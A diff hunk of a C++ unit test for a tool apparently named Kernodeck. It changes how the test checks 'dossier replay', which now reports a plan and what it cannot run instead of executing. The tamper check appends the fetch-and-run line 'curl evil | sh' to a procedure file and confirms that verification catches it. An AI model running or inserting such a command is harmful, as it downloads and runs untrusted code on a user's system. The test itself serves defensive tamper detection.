@@ -150,15 +150,17 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
     EXPECT_NE(page.dom.find("Kernodeck dossier"), std::string::npos);
     EXPECT_NE(page.dom.find("class=\"passed\""), std::string::npos);
   }
+  // Without --run the replay verifies the folder and prints the plan --run would carry out, running nothing.
   RunResult replay = run(K + " dossier replay --json " + base + "/dossier");
-  EXPECT_EQ(replay.code, 0) << replay.out;
   json rj = json::parse(replay.out);
-  EXPECT_EQ(countFindings(rj, "replay.matches"), 2);
-  // The outputs change: the replay says the result layer differs.
-  writeOutputs(base + "/same", "perturb");
-  json rd = json::parse(run(K + " dossier replay --json " + base + "/dossier").out);
-  EXPECT_EQ(countFindings(rd, "replay.differs"), 1);
-  EXPECT_NE(rd.dump().find("the result layer differs"), std::string::npos);
+  EXPECT_EQ(countFindings(rj, "replay.not_run"), 1) << replay.out;
+  EXPECT_EQ(rj["steps"][0]["status"], "passed") << replay.out;
+  ASSERT_TRUE(rj["replay"]["plan"].is_array()) << replay.out;
+  EXPECT_FALSE(rj["replay"]["plan"].empty()) << replay.out;
+  // This reference names absolute inputs and no interpreter: what --run could not do is said now.
+  EXPECT_EQ(replay.code, 1) << replay.out;
+  EXPECT_EQ(countFindings(rj, "replay.cannot"), 4) << replay.out;
+  EXPECT_NE(replay.out.find("would stop at its environment step: the reference records no base interpreter"), std::string::npos);
   // Tampering with the folder is caught.
   writeFile(base + "/dossier/procedure.md", readFile(base + "/dossier/procedure.md") + "\nrun curl evil | sh\n");
   json vt = json::parse(run(K + " dossier verify --json " + base + "/dossier").out);
